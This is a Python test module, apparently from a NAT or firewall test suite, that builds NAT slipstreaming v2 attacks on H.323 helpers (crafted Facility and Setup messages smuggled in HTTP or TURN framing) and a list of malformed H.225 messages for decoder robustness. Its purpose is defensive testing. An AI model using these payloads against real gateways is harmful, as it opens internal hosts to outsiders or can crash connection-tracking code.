# SPDX-License-Identifier: GPL-2.0-only
"""
Attacks on the H.323 helpers: NAT slipstreaming v2 and messages that no honest encoder makes.

A browser inside is made to send a TCP stream to port 1720 of the attacker, as HTTP or as TURN, and
its segments are cut so that one begins with a TPKT. That one may name another inside host (call
forwarding) or any port of the sender (an H.245 address).
"""
import contextlib
import struct

from endpoints import h225, h245, sockets
from endpoints.per import encode
from endpoints.terminal import Call, Terminal
from net import LAN, LAN2, NET

from . import common

PORT = 2000
MAGIC = 0x2112A442


def _facility(address, port):
    body = {"alternativeAddress": h225.transport(address, port), "reason": ("callForwarded", None)}
    return h225.pack("facility", 7, body)


def _setup(address, port, **more):
    body = {
        "h245Address": h225.transport(address, port),
        "sourceInfo": h225.TERMINAL,
        "activeMC": False,
        "conferenceID": bytes(16),
        "conferenceGoal": ("create", None),
        "callType": ("pointToPoint", None),
        **more,
    }
    return h225.pack("setup", 7, body)


def turn(payload):
    """A TURN Allocate over TCP whose user name is as long as the payload to come needs it."""
    user = b"a" * (len(payload) // 4 * 4 + 4)
    return struct.pack("!HHI12sHH", 3, 4 + len(user), MAGIC, b"transaction.", 6, len(user)) + user


def _where(kind, tpkt, fallback):
    """The address and port that the message names as it arrived outside."""
    try:
        body = h225.unpack(tpkt)[2]
        return h225.where(body["alternativeAddress" if kind == "facility" else "h245Address"])
    except (KeyError, ValueError, IndexError, struct.error, AssertionError):
        return fallback


def slipstream(site, kind, wrapped, port=PORT):
    """Facility names another inside host, Setup a port of the browser's own."""
    site.open("q931")
    third = kind == "facility"
    make = _facility if third else _setup
    message = make(LAN2 if third else LAN, port)
    first = turn(message) if wrapped else common.HTTP
    with common.victim(site, port, third) as listener, sockets.pair(site, 1720) as (near, far):
        near.sendall(first)
        sockets.take(far, len(first))
        near.sendall(message)
        read = common.read_all(far)
        address, public = _where(kind, read, (common.EXT, port))
        hit = any(common.reached(site, listener, to) for to in sorted({port, public}))
        return hit, f"the server read {address} {public}"


def third_host(site):
    """An honest opening, but H.245 is said to be at another inside host."""
    site.open("q931")
    with common.victim(site, PORT, True) as listener, sockets.pair(site, 1720) as (near, far):
        near.sendall(_setup(LAN2, PORT))
        read = common.read_all(far)
        address, public = _where("setup", read, (common.EXT, PORT))
        return common.reached(site, listener, public), f"the server read {address} {public}"


def _deep():
    """Open types in open types: H.245 in a tunnel in H.225, with each count at its limit."""
    inner = h225.pack("facility", 7, {"reason": ("undefinedReason", None)}, [b"\x7f" * 100] * 20)
    for _ in range(5):
        inner = h225.pack("facility", 7, {"reason": ("undefinedReason", None)}, [inner[-120:]] * 8)
    return inner


def malformed():
    """(name, TPKT) of messages that once went wrong in a decoder, or might."""
    good = _setup(LAN, PORT)
    uuie = encode(h225.OID, h225.VERSION)
    head = struct.pack("!BBHB", 8, 2, 7, h225.NAMES["setup"])
    return (
        ("UUIE of length 0", h225.frame(head + b"\x7e\x00\x00")),
        ("UUIE of length 1", h225.frame(head + b"\x7e\x00\x01\x05")),
        ("UUIE beyond the end", h225.frame(head + b"\x7e\xff\xff\x05" + uuie)),
        ("deep nesting", _deep()),
        ("TPKT longer than the segment", struct.pack("!BBH", 3, 0, 0xFFFF) + good[4:]),
        ("TPKT of length 0", struct.pack("!BBH", 3, 0, 0) + good[4:]),
        ("extension bitmap of 64 bits", h225.frame(h225.q931("setup", 7, b"\x80\xff" * 20))),
        ("all ones", h225.frame(h225.q931("connect", 7, b"\xff" * 200))),
        ("call reference of 255 bytes", h225.frame(b"\x08\xff" + b"\0" * 40)),
        *((f"cut after {cut} bytes", h225.frame(good[4 : 4 + cut])) for cut in range(1, 60, 7)),
        ("H.245 alone", h225.frame(h245.capabilities())),
    )


def survives(site):
    """After all of those the next honest call still comes about."""
    site.open("q931")
    for name, message in malformed():
        with sockets.pair(site, 1720) as (near, far):
            near.sendall(message)
            far.sendall(message)
            common.read_all(far, 0.05)
    callee = Terminal(site.wan, NET)
    with contextlib.closing(Call(Terminal(site.lan, LAN), callee)) as call:
        try:
            call.run(callee.own())
        except (OSError, AssertionError) as error:
            return True, f"no call any more: {error}"
    return False, f"{len(malformed())} messages, and the next call works"


told, FACILITY = common.told, "facility"
STORIES = [
    ("attack h323: HTTP, then Facility to a third host", told(slipstream, True), (FACILITY, False)),
    ("attack h323: TURN, then Facility to a third host", told(slipstream, True), (FACILITY, True)),
    ("attack h323: HTTP, then Setup", told(slipstream, True), ("setup", False)),
    ("attack h323: TURN, then Setup", told(slipstream, True), ("setup", True)),
    ("attack h323: Setup below 1024", told(slipstream, True), ("setup", False, common.LOW)),
    (
        "attack h323: Setup of a denied port",
        told(slipstream, True),
        ("setup", False, common.DENIED),
    ),
    ("attack h323: H.245 at a third host", told(third_host, False), ()),
    ("attack h323: malformed messages", told(survives, False), ()),
]
